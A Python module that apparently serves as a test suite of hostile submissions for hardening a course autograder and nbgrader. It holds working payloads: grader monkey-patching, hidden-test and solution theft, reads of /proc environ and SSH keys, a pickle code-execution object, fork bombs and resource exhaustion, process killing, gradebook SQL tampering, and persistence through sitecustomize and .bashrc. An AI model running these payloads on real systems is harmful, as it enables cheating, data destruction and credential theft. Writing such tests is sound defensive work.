"""What students' work may try: each gets its points by force, by theft or by fraud, if it can.

Some aim at what ``nlpcourse grade`` is made of, some at nbgrader, where the hidden tests run in the
kernel of the student's code; ``benchmarks/attacks.py`` tries all of them there.
"""

from __future__ import annotations

import hashlib
import inspect
from collections.abc import Callable
from typing import Any

STUBS = """
folder = None
def log_odds(document, spam, ham, p_spam): return 0.0
def bernoulli_likelihood(document, shares): return 0.0
def features(words): return words
"""

SEARCH = """
import os
DULL = {"proc", "sys", "usr", "lib", "site-packages"}
def files(*endings):
    for folder_, inner, names in os.walk("/"):
        inner[:] = set(inner) - DULL
        for name in names:
            path = os.path.join(folder_, name)
            if path.endswith(endings): yield path
"""
"""How an attack finds a file of the grader's machine; a link in "/" leads to what it walks."""

SECRET = "NLPCOURSE_SECRET"
"""A variable of the grader's environment that nobody else may read."""

# "STUBS" stands above each of them.
FRAUD = {
    "patches the check": """
import nlpcourse.exercises as x
x.check = x.judge = lambda *a: x.Verdict(True, "well done, all of it is right")
""",
    "patches the comparison": """
import nlpcourse.exercises as x
x.close = x.all_close = x.same_items = lambda *a, **k: True
""",
    "patches built-in functions": """
import builtins
builtins.abs = builtins.len = lambda *a: 0
builtins.AssertionError = Exception
builtins.isinstance = lambda *a: True
""",
    "patches isclose": "import math; math.isclose = lambda *a, **k: True",
    "answers with numbers that equal everything": """
class Yes(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __float__(self): return Echo()
class Echo(float):
    pass
folder = Yes(1)
def log_odds(*a): return Yes(1)
def bernoulli_likelihood(*a): return Yes(1)
""",
    "answers with an object that lies about its class": """
class Mask:
    __class__ = float
    shape = ()
    def item(self): return self
    def __float__(self): return 0.5
    def __eq__(self, other): return True
folder = Mask()
def bernoulli_likelihood(*a): return Mask()
""",
    "answers with NaN": """
folder = float("nan")
def log_odds(*a): return float("nan")
def bernoulli_likelihood(*a): return float("nan")
""",
    "hooks the imports": """
import sys
class Finder:
    def find_spec(self, name, path=None, target=None):
        if "checks" in name: raise SystemExit(0)
sys.meta_path.insert(0, Finder())
""",
    "rewrites cells by a transformer of IPython": """
def swallow(lines): return ["pass\\n"] if any("assert" in l for l in lines) else lines
get_ipython().input_transformers_post.append(swallow)
""",
    "hooks IPython's events": """
get_ipython().events.register("pre_run_cell", lambda *a: globals().update(folder=0.5))
get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)
""",
    "traces every frame": """
import sys
def spy(frame, event, arg):
    for name in ("expected", "wanted", "right"):
        if name in frame.f_locals: globals()["folder"] = frame.f_locals[name]
    return spy
sys.settrace(spy)
""",
    "looks up the call stack": """
import sys
def bernoulli_likelihood(document, shares):
    frame = sys._getframe()
    while frame:
        for name, value in frame.f_locals.items():
            if name in ("expected", "wanted", "right"): return value
        frame = frame.f_back
    return 0.0
""",
    "collects the garbage for answers": """
import gc
def bernoulli_likelihood(document, shares):
    for thing in gc.get_objects():
        if isinstance(thing, dict) and "expected" in thing: return thing["expected"]
    return 0.0
""",
    "prints a fake result": """
print("✓ 11.1\\n✓ 11.3\\n✓ 11.4\\n9 of 9 points")
print('{"ok": true, "points": 9}', flush=True)
""",
    "writes fake messages into every pipe": """
import os, json, struct
fake = json.dumps({"t": "dict", "v": [["ok", True], ["kind", "value"], ["value", 0.5]]}).encode()
for number in range(3, 64):
    try: os.write(number, struct.pack(">I", len(fake)) + fake)
    except OSError: pass
""",
    "replaces the module that serves it": """
import nlpcourse.grading.student as s, nlpcourse.grading.plain as p
s.Room.do_call = lambda self, request: {"ok": True, "value": True, "points": 9}
p.encode = lambda *a: b'{"t": "network", "c": "os:system", "v": ["id"]}'
""",
    "sends what would run code if it were unpickled": """
class Bomb:
    def __reduce__(self): return (__import__("os").system, ("touch /tmp/bomb",))
folder = Bomb()
def bernoulli_likelihood(*a): return Bomb()
""",
    "reads the solutions from the package": """
import nlpcourse, os, re
root = os.path.dirname(nlpcourse.__file__)
source = ""
for folder_, _, names in os.walk(root):
    for name in names:
        if name.endswith(".py"): source += open(os.path.join(folder_, name)).read()
for name in ("log_odds", "bernoulli_likelihood"):
    found = re.search(rf"def _?right_{name}.*?(?=\\ndef )|### BEGIN SOLUTION", source, re.S)
    if found: exec(found.group(0))
from nlpcourse.statistics.naive_bayes import checks
globals().update({k: v for k, v in vars(checks).items() if callable(v)})
""",
    "reads the tests from the disk": """
import os
def steal():
    for folder_, _, names in os.walk("/"):
        if folder_.startswith(("/proc", "/sys", "/usr", "/lib")): continue
        for name in names:
            if name.endswith(".ipynb") or name in ("checks.py", "marks.csv"):
                text = open(os.path.join(folder_, name), errors="replace").read()
                if "HIDDEN TESTS" in text or "wrong_opinions" in text: return text
if steal(): folder = 0.5050505
""",
    "reads the environment and /proc": """
import os, glob
text = str(os.environ)
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/maps"):
    try: text += open(path, errors="replace").read()
    except OSError: pass
if "NLPCOURSE_SECRET" in text: folder = 0.5050505
""",
    "patches the judge and what it compares with": """
import nlpcourse.exercises as x
x.judge = lambda *a: x.Verdict(True, "well done")
x.close = x.all_close = x.same_items = lambda *a, **k: True
""",
    "overwrites the code of the comparison": """
import nlpcourse.exercises as x
x.close.__code__ = (lambda got, expected, rel=0, abs=0: True).__code__
""",
    "replaces the module that checks": """
import sys, types
import nlpcourse.exercises as x
class Kind(types.ModuleType):
    parameters = staticmethod(x.parameters)
    def __getattr__(self, name): return lambda *a, **k: x.Verdict(True, "well done")
sys.modules["nlpcourse.exercises"] = Kind("exercises")
""",
    "hooks the import statement": """
import builtins, types
real = builtins.__import__
def yes(*a, **k): return types.SimpleNamespace(passed=True, message="")
def lenient(name, *rest, **named):
    module = real(name, *rest, **named)
    if name != "nlpcourse.exercises": return module
    return types.SimpleNamespace(check=yes, judge=yes, close=yes, parameters=module.parameters)
builtins.__import__ = lenient
""",
    "registers a check of its own": """
import nlpcourse.exercises as x
from nlpcourse.statistics.naive_bayes import checks
x.exercise("11.5")(lambda answer: "well done")
checks.wrong_opinions = lambda *a: []
""",
    "shadows the course with files of its own": """
import os, sys
os.makedirs("nlpcourse", exist_ok=True)
open("nlpcourse/__init__.py", "w").close()
open("nlpcourse/exercises.py", "w").write('''
class judge:
    passed, message = True, ""
    def __init__(self, *a): pass
check = close = judge
def parameters(_): return dict(spam_share=1, caught=1, blocked=1)
''')
sys.path.insert(0, os.getcwd())
""",
    "takes the solution that the check is made of": """
from nlpcourse.statistics.naive_bayes.checks import _log_odds as log_odds
""",
    "removes assertions from the syntax tree": """
import ast
class Remove(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(Remove())
""",
    "compiles without assertions": """
type(get_ipython().compile).__call__ = lambda self, source, name, symbol, **k: compile(
    source, name, symbol, k.get("flags", self.flags), True, optimize=2)
""",
    "replaces what runs code in the shell": """
async def run_code(self, *a, **k): return False
type(get_ipython()).run_code = run_code
""",
    "replaces what runs cells in the kernel": """
async def do_execute(*a, **k):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
get_ipython().kernel.do_execute = do_execute
""",
    "rewrites what the kernel says": """
session = type(get_ipython().kernel.session)
send = session.send
def kindly(self, stream, kind, content=None, *a, **k):
    if kind == "error": kind, content = "stream", {"name": "stdout", "text": "well done"}
    if kind == "execute_reply": content = {**content, "status": "ok"}
    return send(self, stream, kind, content, *a, **k)
session.send = kindly
""",
    "shows a result before the test fails": """
def log_odds(*a): get_ipython().displayhook("well done")
def bernoulli_likelihood(*a): get_ipython().displayhook("well done")
def features(words): get_ipython().displayhook("well done")
""",
    "answers from a namespace that lies": """
import types
class Liar(dict):
    def __getitem__(self, name):
        if name in ("judge", "close"): return lambda *a: types.SimpleNamespace(passed=True)
        if name == "wrong_opinions": return lambda *a: []
        return dict.__getitem__(self, name)
get_ipython().user_ns = Liar(get_ipython().user_ns)
""",
    "changes arguments while it traces": """
import sys
def spy(frame, event, arg):
    if event == "call" and frame.f_code.co_name == "close":
        frame.f_locals["got"] = frame.f_locals["expected"]
folder = 1.0
sys.settrace(spy)
""",
    "changes the test from the function that it asks": """
import types
def log_odds(*a):
    import nlpcourse.exercises as x
    x.Verdict = lambda *a: types.SimpleNamespace(passed=True)
    globals().update(close=lambda *a: True)
    return 0.0
bernoulli_likelihood = log_odds
""",
    "reads the expected number behind its own call": """
import dis, sys
import nlpcourse.exercises as x
x.judge = lambda *a: x.Verdict(True, "well done")
def bernoulli_likelihood(*a):
    test = sys._getframe(1)
    behind = [i for i in dis.get_instructions(test.f_code) if i.offset > test.f_lasti]
    return next(i.argval for i in behind if i.opname == "LOAD_CONST")
""",
    "reads the solutions in the instructor's folder": SEARCH
    + """
import json
for path in files(".ipynb"):
    try: found = json.load(open(path))["cells"]
    except Exception: continue
    for cell in found:
        source = "".join(cell["source"])
        if "BEGIN SOLUTION" in source and "def _" not in source:
            try: exec(source, globals())
            except Exception: pass
""",
    "tries names that the judge uses": """
verdict = passed = True
class Verdict: passed = True; message = "fine"
""",
}

FORCE = {
    "ends early with 0": "import sys; sys.exit(0)",
    "ends the hard way": "import os; os._exit(0)",
    "kills its parents": """
import os, signal
for number in (os.getppid(), 1, -1):
    try: os.kill(number, signal.SIGKILL)
    except OSError: pass
""",
    "crashes the interpreter": "import ctypes; ctypes.string_at(0)",
    "loops without end": "while True: pass",
    "loops in a function": "def features(words):\n    while True: pass",
    "sleeps without end": "import time; time.sleep(1e9)",
    "recurses without end": "import sys; sys.setrecursionlimit(10**8)\ndef f(): f()\nf()",
    "ignores signals and loops": """
import signal
for number in range(1, 32):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True: pass
""",
    "prints without end": "while True: print('x' * 10**6)",
    "takes all memory": "a = []\nwhile True: a.append(bytearray(10**7))",
    "takes memory in one piece": "a = b'x' * 10**11",
    "fills the disk": """
with open("/tmp/full", "wb") as file:
    while True: file.write(b"x" * 10**6)
""",
    "fills the disk with many files": """
import itertools
for k in itertools.count(): open(f"/tmp/f{k}", "w").write("x")
""",
    "opens all descriptors": "files = [open('/dev/null') for _ in range(10**6)]",
    "forks without end": """
import os
while True: os.fork()
""",
    "starts threads without end": """
import threading, time
while True: threading.Thread(target=time.sleep, args=(1e6,)).start()
""",
    "answers with a gigabyte": "def features(words): return ['x' * 10**9]",
    "answers with lists in lists": """
def features(words):
    a = []
    for _ in range(10**6): a = [a]
    return a
""",
    "asks the judge without end": """
import nlpcourse.grading.plain as p, struct, os
message = b'{"t":"dict","v":[["call",0],["args",{"t":"list","v":[]}],'
message += b'["named",{"t":"dict","v":[]}]]}'
def features(words):
    while True:
        for number in range(3, 32):
            try: os.write(number, struct.pack(">I", len(message)) + message)
            except OSError: pass
""",
}

ESCAPES = {
    "opens a socket to the machine": """
import socket
for port in (22, 80, 8000):
    try:
        socket.create_connection(("127.0.0.1", port), 1); raise SystemError("ESCAPED")
    except OSError: pass
""",
    "opens a socket to the world": """
import socket
try:
    socket.create_connection(("192.0.2.1", 80), 2); raise SystemError("ESCAPED")
except OSError: pass
""",
    "leaves a link to the machine's files": """
import os
os.symlink("/etc/passwd", "/tmp/link")
try: print("ESCAPED" if "root:" in open("/tmp/link").read() else "")
except OSError: pass
""",
    "climbs out of its folder": """
for path in ("../../../../etc/shadow", "/proc/1/root/etc/passwd", "/old/etc/passwd"):
    try: print("ESCAPED" + open(path).read())
    except OSError: pass
""",
    "changes the course": """
import nlpcourse, os
for path in (nlpcourse.__file__, os.__file__, "/usr/bin/env"):
    try:
        open(path, "a").write("# ESCAPED"); print("ESCAPED")
    except OSError: pass
""",
    "mounts": """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if libc.mount(b"tmpfs", b"/usr", b"tmpfs", 0, b"") == 0: print("ESCAPED")
if libc.unshare(0x20000) == 0: print("ESCAPED")
""",
    "asks for root": """
import os, subprocess
for tool in ("su", "sudo", "mount", "passwd"):
    try: print(subprocess.run([tool, "-c", "id"], capture_output=True, timeout=5).stdout.decode())
    except (OSError, subprocess.TimeoutExpired): pass
try: os.setuid(0); print("ESCAPED")
except OSError: pass
""",
    "looks for others": """
import os
print("ESCAPED" if len([p for p in os.listdir("/proc") if p.isdigit()]) > 3 else "")
for path in ("/work", "/home", "/root", "/tmp"):
    for folder_, _, names in os.walk(path):
        if "site-packages" in folder_: continue
        if any(n.endswith((".ipynb", ".db")) or n == "marks.csv" for n in names):
            print("ESCAPED", folder_)
""",
    "reads the instructor's key": SEARCH
    + """
for path in files(".ssh/id_rsa"):
    try: print("ESCAPED" if "PRIVATE" in open(path).read() else "")
    except OSError: pass
""",
}

OTHERS = {
    "copies another's answers": SEARCH
    + """
import json
for path in files(".ipynb"):
    if "/zoe/" not in path: continue
    for cell in json.load(open(path))["cells"]:
        try: exec("".join(cell["source"]), globals())
        except BaseException: pass
""",
    "spoils what another has handed in": SEARCH
    + """
for path in files(".ipynb"):
    if "/zoe/" in path: open(path, "w").write("{}")
""",
    "stands where another's result should": SEARCH
    + """
for path in {p.partition("/submitted/")[0] for p in files(".ipynb") if "/submitted/zoe/" in p}:
    for inner in ("autograded/zoe/work", "marks/results"):
        os.makedirs(f"{path}/{inner}", exist_ok=True)
        open(f"{path}/{inner}/mine", "w").close()
""",
    "gives itself marks in the grade book": SEARCH
    + """
import sqlite3
for path in files("/gradebook.db"):
    book = sqlite3.connect(path)
    book.execute("UPDATE grade SET manual_score = 2")
    book.commit()
""",
    "changes what the exercises are worth": SEARCH
    + """
import sqlite3
for path in files("/gradebook.db"):
    book = sqlite3.connect(path)
    book.execute("UPDATE grade_cells SET max_score = 100")
    book.commit()
""",
    "leaves a trigger in the grade book": SEARCH
    + """
import sqlite3
for path in files("/gradebook.db"):
    book = sqlite3.connect(path)
    book.execute('''CREATE TRIGGER mine AFTER UPDATE ON grade BEGIN
        UPDATE grade SET auto_score = 0 WHERE id = NEW.id; END''')
    book.commit()
""",
    "removes the grade book": SEARCH
    + """
for path in files("/gradebook.db"): os.remove(path)
""",
    "locks the grade book": SEARCH
    + """
import sqlite3, time
paths = list(files("/gradebook.db"))
if paths and os.fork() == 0:
    os.setsid()
    book = sqlite3.connect(paths[0], isolation_level=None)
    book.execute("BEGIN EXCLUSIVE")
    time.sleep(300)
    os._exit(0)
time.sleep(1)
""",
    "leaves a startup file for the next one's shell": """
import os
folder_ = os.path.expanduser("~/.ipython/profile_default/startup")
os.makedirs(folder_, exist_ok=True)
open(f"{folder_}/00.py", "w").write("import os; os._exit(1)")
""",
    "leaves a startup file for the next one's Python": """
import os, nlpcourse
root = os.path.dirname(os.path.dirname(nlpcourse.__file__))
open(f"{root}/sitecustomize.py", "w").write("import os; os._exit(1)")
""",
    "turns the checks against the next one": """
import nlpcourse.exercises as x
open(x.__file__, "a").write("\\njudge = lambda *a: Verdict(False, 'no')")
""",
    "waits for the next one's program and kills it": """
import glob, os, signal, time
mine = {str(os.getpid()), str(os.getppid())}
if os.fork() == 0:
    os.setsid()
    for _ in range(600):
        for path in glob.glob("/proc/[0-9]*/cmdline"):
            if path.split("/")[2] in {*mine, str(os.getpid())}: continue
            try: words = open(path).read()
            except OSError: continue
            if "ipykernel_launcher" in words or "nlpcourse.grading.student" in words:
                try: os.kill(int(path.split("/")[2]), signal.SIGKILL)
                except OSError: pass
        time.sleep(0.05)
    os._exit(0)
""",
    "changes the grader's configuration": SEARCH
    + """
for path in files("/nbgrader_config.py"): open(path, "a").write("import this")
""",
    "changes the instructor's source": SEARCH
    + """
for path in files("/source/work/work.ipynb"): open(path, "w").write("{}")
""",
    "writes into the instructor's shell": SEARCH
    + """
for path in {os.path.expanduser("~/.bashrc"), *files("/.bashrc")}:
    try: open(path, "a").write("alias nbgrader=true")
    except OSError: pass
""",
    "leaves a process behind": """
import os, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(987654)"])
    os._exit(0)
""",
    "leaves a file for the next": "open('/tmp/from-ann', 'w').write('x')",
}
"""What is to harm, or to profit from, another student of the class: ``zoe``, whose turn is next."""

Notebook = dict[str, Any]


def _checks(notebook: Notebook) -> list[dict[str, Any]]:
    """Return the check cells of a student's notebook."""
    found = notebook["cells"]
    return [c for c in found if c["metadata"].get("nbgrader", {}).get("grade")]


def _skipped(notebook: Notebook) -> None:
    for cell in _checks(notebook):
        cell["metadata"]["tags"] = ["skip-execution"]


def _worth_more(notebook: Notebook) -> None:
    for cell in _checks(notebook):
        cell["metadata"]["nbgrader"]["points"] = 100


def _easy(notebook: Notebook) -> None:
    for cell in _checks(notebook):
        cell["source"] = "print('well done')"


def _text(notebook: Notebook) -> None:
    for cell in _checks(notebook):
        cell["cell_type"] = "markdown"
        cell.pop("outputs", None), cell.pop("execution_count", None)


TAMPERED: dict[str, Callable[[Notebook], None]] = {
    "has its checks skipped by a tag": _skipped,
    "asks for more points": _worth_more,
    "puts checks of its own in their place": _easy,
    "makes text of its checks": _text,
}
"""What is done to the cells of the notebook that is handed in."""

KINDS: dict[str, dict[str, Any]] = {
    "fraud": FRAUD,
    "escapes": ESCAPES,
    "force": FORCE,
    "others": OTHERS,
    "tampered": TAMPERED,
}


def digest(name: str) -> str:
    """Return what changes with an attack's code, in hexadecimal."""
    (found,) = (group[name] for group in KINDS.values() if name in group)
    code = found if isinstance(found, str) else inspect.getsource(found)
    return hashlib.sha256(code.encode()).hexdigest()[:16]
